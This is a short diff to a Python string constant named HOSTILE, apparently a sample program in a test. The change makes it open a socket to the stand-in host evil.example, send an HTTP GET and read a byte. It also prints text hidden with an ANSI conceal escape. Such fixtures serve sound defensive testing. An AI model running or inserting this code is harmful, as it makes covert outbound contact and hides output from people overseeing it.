@@ -56,7 +56,9 @@ HOSTILE = r"""
 import socket, sys, threading, time
 def connect():
     try:
-        socket.create_connection(("evil.example", 443), 20)
+        evil = socket.create_connection(("evil.example", 80), 20)
+        evil.sendall(b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")
+        evil.recv(1)
     except OSError as error:
         print("ended", error, flush=True)
 sys.stdout.write("\x1b[8mhidden"); sys.stdout.flush()
